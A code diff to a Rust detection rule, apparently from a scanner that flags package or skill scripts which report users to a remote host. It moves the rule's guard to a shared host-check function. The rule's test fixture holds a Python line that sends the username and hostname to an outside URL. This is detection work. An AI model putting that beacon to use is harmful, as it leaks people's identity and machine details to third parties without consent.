@@ -74,7 +74,7 @@ pub(super) static RULES: &[Rule] = &[Rule {
     why: "that is how packages report whom they have reached, before they fetch the rest",
     fix: "remove the script",
     when: When::Near(500, &[&[&WHO], &[&WHERE], &[&CODE_SEND, &WAY_OUT, &CONNECTION]]),
-    guard: Some(to_nobody_known),
+    guard: Some(hosts::nobody_known),
     hits: &["@a.py\nq = urlencode({'u': getpass.getuser(), 'h': socket.gethostname()})\nurllib.request.urlopen('https://h.fast-agent.top/w?' + q)\n"],
     misses: &["@a.py\nprint(getpass.getuser(), socket.gethostname())\n"],
     ..Rule::BASE
@@ -98,10 +98,4 @@ fn wholly(reading: &Reading<'_>, hit: &Hit) -> u32 {
     } else {
         hosts::stranger(reading, hit)
     }
-}
-
-/// Nothing for the skill's own service: it may count its users.
-fn to_nobody_known(reading: &Reading<'_>, hit: &Hit) -> u32 {
-    let kept = hosts::stranger(reading, hit);
-    if kept < 100 { 0 } else { kept }
 }
